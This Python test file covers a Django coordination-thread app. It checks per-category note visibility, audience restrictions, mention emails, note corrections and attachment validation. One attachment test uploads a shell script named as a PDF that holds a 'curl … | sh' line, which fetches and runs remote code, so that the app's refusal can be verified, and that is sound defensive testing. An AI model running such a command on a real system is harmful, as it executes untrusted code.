"""The coordination thread: notes by category and audience, mentions, corrections, attachments checked by content."""

import io

import pytest
from django.core import mail
from django.urls import reverse

from maillage.access.enums import Category
from maillage.access.models import AccessEvent
from maillage.accounts.actors import actor_for
from maillage.coordination import services
from maillage.coordination.models import Attachment, Note, NoteRevision
from maillage.core.tests.helpers import post_form
from maillage.people.tests.factories import ConsentFactory

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def thread_url(network):
    return reverse("coordination:thread", kwargs={"public_id": network.person.public_id})


def new_note_url(network):
    return reverse("coordination:note_create", kwargs={"public_id": network.person.public_id})


def share_health_with_referent(network):
    ConsentFactory(
        person=network.person, recipient_organisation=network.referent_org, categories=[Category.HEALTH], explicit=True
    )


class TestCategories:
    def test_a_health_note_is_invisible_to_a_partner_without_health(self, network, client):
        share_health_with_referent(network)
        referent = actor_for(network.referent)
        services.note_create(referent, person=network.person, category=Category.HEALTH, body="Traitement ajusté.")
        services.note_create(referent, person=network.person, category=Category.COORDINATION, body="RDV logement.")

        client.force_login(network.partner)
        page = client.get(thread_url(network)).content.decode()
        assert "RDV logement." in page
        assert "Traitement ajusté." not in page

        client.force_login(network.referent)
        page = client.get(thread_url(network)).content.decode()
        assert "Traitement ajusté." in page and "RDV logement." in page
        # Reading the health note was audited as health data.
        assert AccessEvent.objects.filter(
            actor_id=network.referent.pk, person_id=network.person.pk, category=Category.HEALTH
        ).exists()

    def test_a_partner_cannot_write_in_a_category_not_shared_with_it(self, network, client):
        client.force_login(network.partner)
        response = post_form(client, new_note_url(network), {"body": "Santé", "category": Category.HEALTH})
        assert response.status_code == 422
        assert not Note.objects.exists()

    def test_a_restricted_note_is_read_only_by_its_audience(self, network, client):
        referent = actor_for(network.referent)
        services.note_create(
            referent,
            person=network.person,
            category=Category.COORDINATION,
            body="Entre nous.",
            audience=[network.referent_org],
        )
        client.force_login(network.partner)
        assert "Entre nous." not in client.get(thread_url(network)).content.decode()
        client.force_login(network.referent)
        assert "Entre nous." in client.get(thread_url(network)).content.decode()

    def test_a_stranger_gets_404(self, network, client):
        client.force_login(network.stranger)
        assert client.get(thread_url(network)).status_code == 404


class TestWritingAndMentions:
    def test_a_note_with_a_mention_mails_the_partner_without_its_text_or_the_name(
        self, network, client, django_capture_on_commit_callbacks
    ):
        client.force_login(network.referent)
        with django_capture_on_commit_callbacks(execute=True):
            response = post_form(
                client,
                new_note_url(network),
                {
                    "body": "Paul, peux-tu rappeler ?",
                    "category": Category.COORDINATION,
                    "mentions": [network.partner.pk],
                },
            )
        assert response.status_code == 302
        note = Note.objects.get()
        assert list(note.mentions.all()) == [network.partner]
        assert len(mail.outbox) == 1
        message = mail.outbox[0]
        assert message.to == [network.partner.email]
        assert "peux-tu" not in message.body and network.person.last_name not in message.body
        assert str(network.person.public_id) in message.body

    def test_a_mention_of_a_note_the_partner_may_not_read_has_no_link(
        self, network, django_capture_on_commit_callbacks
    ):
        share_health_with_referent(network)
        referent = actor_for(network.referent)
        with django_capture_on_commit_callbacks(execute=True):
            services.note_create(
                referent, person=network.person, category=Category.HEALTH, body="x", mentions=[network.partner]
            )
        assert len(mail.outbox) == 1
        assert "/coordination/" not in mail.outbox[0].body

    def test_a_mention_outside_the_network_is_refused(self, network, client):
        client.force_login(network.referent)
        response = post_form(
            client,
            new_note_url(network),
            {"body": "x", "category": Category.COORDINATION, "mentions": [network.stranger.pk]},
        )
        assert response.status_code == 422 and not Note.objects.exists()

    def test_the_person_writes_in_their_own_thread_and_reads_the_answer(self, network, client):
        from maillage.accounts.enums import UserKind
        from maillage.accounts.tests.factories import UserFactory

        network.person.user = UserFactory(kind=UserKind.PERSON)
        network.person.save(update_fields=["user"])
        client.force_login(network.person.user)
        response = post_form(client, new_note_url(network), {"body": "Je préfère le mardi."})
        assert response.status_code == 302
        note = Note.objects.get()
        assert note.by_person and note.category == Category.COORDINATION
        client.force_login(network.referent)
        assert "Je préfère le mardi." in client.get(thread_url(network)).content.decode()

    def test_a_reply_is_shown_under_its_note(self, network, client):
        note = services.note_create(
            actor_for(network.referent), person=network.person, category="COORDINATION", body="Q?"
        )
        client.force_login(network.partner)
        url = reverse(
            "coordination:note_reply", kwargs={"public_id": network.person.public_id, "note_id": note.public_id}
        )
        response = post_form(client, url, {"body": "Réponse.", "category": Category.COORDINATION})
        assert response.status_code == 302
        assert Note.objects.get(body="Réponse.").reply_to == note


class TestCorrections:
    def test_the_author_corrects_and_the_earlier_text_is_kept(self, network, client):
        note = services.note_create(
            actor_for(network.referent), person=network.person, category="COORDINATION", body="Mardi"
        )
        client.force_login(network.referent)
        url = reverse(
            "coordination:note_correct", kwargs={"public_id": network.person.public_id, "note_id": note.public_id}
        )
        response = post_form(client, url, {"body": "Mercredi", "category": Category.COORDINATION})
        assert response.status_code == 302
        note.refresh_from_db()
        assert note.body == "Mercredi" and note.version == 2
        assert NoteRevision.objects.get(note=note).body == "Mardi"
        page = client.get(thread_url(network)).content.decode()
        assert "Mercredi" in page and "Mardi" in page

    def test_someone_else_cannot_correct_it(self, network, client):
        note = services.note_create(
            actor_for(network.referent), person=network.person, category="COORDINATION", body="Mardi"
        )
        client.force_login(network.partner)
        url = reverse(
            "coordination:note_correct", kwargs={"public_id": network.person.public_id, "note_id": note.public_id}
        )
        assert client.get(url).status_code == 404

    def test_a_correction_from_an_older_version_is_refused(self, network, client):
        note = services.note_create(
            actor_for(network.referent), person=network.person, category="COORDINATION", body="A"
        )
        client.force_login(network.referent)
        url = reverse(
            "coordination:note_correct", kwargs={"public_id": network.person.public_id, "note_id": note.public_id}
        )
        page = client.get(url).content.decode()
        services.note_correct(
            actor_for(network.referent), note=Note.objects.get(), version=1, body="B", category="COORDINATION"
        )
        from maillage.core.tests.helpers import guard_fields

        response = client.post(url, {**guard_fields(page), "body": "C", "category": Category.COORDINATION})
        assert response.status_code == 422
        note.refresh_from_db()
        assert note.body == "B"


class TestAttachments:
    def post_file(self, client, network, content, name):
        upload = io.BytesIO(content)
        upload.name = name
        return post_form(
            client, new_note_url(network), {"body": "Voir pièce.", "category": "COORDINATION", "files": upload}
        )

    def test_a_script_renamed_pdf_is_refused_with_a_clear_message(self, network, client):
        client.force_login(network.referent)
        response = self.post_file(client, network, b"#!/bin/sh\ncurl http://x | sh\n", "rapport.pdf")
        assert response.status_code == 422
        assert "rapport.pdf" in response.content.decode()
        assert "pas un document que Maillage accepte" in response.content.decode()
        assert not Note.objects.exists() and not Attachment.objects.exists()

    def test_a_pdf_named_as_an_image_is_refused(self, network, client):
        client.force_login(network.referent)
        response = self.post_file(client, network, PDF, "photo.png")
        assert response.status_code == 422 and not Attachment.objects.exists()

    def test_an_oversize_file_is_refused(self, network, client, settings):
        settings.ATTACHMENT_MAX_BYTES = 50
        client.force_login(network.referent)
        response = self.post_file(client, network, PDF + b" " * 100, "rapport.pdf")
        assert response.status_code == 422 and not Attachment.objects.exists()

    def test_a_pdf_is_stored_under_a_random_name_and_served_through_the_door(self, network, client):
        client.force_login(network.referent)
        response = self.post_file(client, network, PDF, "rapport médical.pdf")
        assert response.status_code == 302
        attachment = Attachment.objects.get()
        assert "rapport" not in attachment.file.name and attachment.content_type == "application/pdf"
        url = reverse("coordination:attachment", kwargs={"attachment_id": attachment.public_id})
        client.force_login(network.partner)
        response = client.get(url)
        assert response.status_code == 200
        assert response["Cache-Control"] == "no-store"
        assert b"".join(response.streaming_content) == PDF
        client.force_login(network.stranger)
        assert client.get(url).status_code == 404

    def test_an_attachment_of_a_health_note_is_not_served_to_a_partner_without_health(self, network, client):
        share_health_with_referent(network)
        client.force_login(network.referent)
        upload = io.BytesIO(PDF)
        upload.name = "bilan.pdf"
        post_form(client, new_note_url(network), {"body": "Bilan", "category": "HEALTH", "files": upload})
        attachment = Attachment.objects.get()
        client.force_login(network.partner)
        url = reverse("coordination:attachment", kwargs={"attachment_id": attachment.public_id})
        assert client.get(url).status_code == 404
